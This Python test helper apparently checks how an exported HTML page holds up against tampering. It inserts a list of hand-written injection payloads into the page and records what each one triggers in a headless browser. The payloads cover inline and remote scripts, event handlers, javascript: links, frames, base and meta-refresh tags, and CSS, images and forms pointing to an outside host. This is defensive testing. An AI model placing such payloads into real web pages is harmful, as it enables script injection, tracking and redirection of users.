"""Scripts and markup that somebody puts into an exported page by hand, and what they bring about."""

from pathlib import Path
from typing import Any, Final

from tests.reliability.payloads import HOST, RUN
from tests.reliability.walking import READY_MS, Seen, Walk, watched

BY_HAND: Final = {
    "a script": f"<script>{RUN}</script>",
    "a script of another host": f"<script src=https://{HOST}/x.js></script>",
    "a module": f'<script type=module>import "https://{HOST}/x.js"</script>',
    "a script in a data address": f'<script src="data:text/javascript,{RUN}"></script>',
    "a handler": f'<img src=x onerror="{RUN}"><svg onload="{RUN}"></svg>',
    "a handler of clicks": f'<b id=press onclick="{RUN}">x</b>',
    "an address that is a script": f'<a id=press href="javascript:{RUN}">x</a>',
    "a style": f"<style>html{{background:url(https://{HOST}/x)}} .panel{{display:none}}</style>",
    "a style of an element": f'<i style="background:url(https://{HOST}/x)">x</i>',
    "a style of another host": f"<link rel=stylesheet href=https://{HOST}/x.css>",
    "a base": f"<base href=https://{HOST}/>",
    "a refresh that is a script": f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    "a frame": f'<iframe src="https://{HOST}/"></iframe><iframe src="javascript:parent.{RUN}"></iframe>',
    "a frame with a page": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "an object": f'<object data="https://{HOST}/"></object><embed src="https://{HOST}/">',
    "a form": f'<form action="https://{HOST}/"><button id=press>x</button></form>',
    "a picture of another host": f"<img src=https://{HOST}/x.png>",
}
"""By name. What has the id ``press`` is clicked."""

_IS_ANOTHER: Final = """() => !document.baseURI.startsWith("file:")
  || getComputedStyle(document.querySelector(".panel")).display === "none" """


def tampered(chromium: Any, page_file: Path, markup: str) -> list[str]:
    """Open a page with something put into it.

    Parameters
    ----------
    chromium : Browser
        Where to open it.
    page_file : Path
        The page as it was exported; unchanged.
    markup : str
        What is put before its end.

    Returns
    -------
    list of str
        What this brought about.
    """
    target = page_file.with_name("altered.html")
    whole = page_file.read_text("utf-8")
    target.write_text(whole.replace("</body>", f"{markup}</body>"), "utf-8")
    seen = Seen()
    with watched(chromium, seen) as page:
        page.goto(target.as_uri())
        page.wait_for_selector("html[data-ready]", timeout=READY_MS)
        page.evaluate("document.querySelectorAll('#press').forEach((one) => one.click())")
        page.wait_for_timeout(50)
        seen.ran += Walk(page, set())("signals")
        if page.evaluate(_IS_ANOTHER):
            seen.ran.append("the page is another")
    return seen.ran
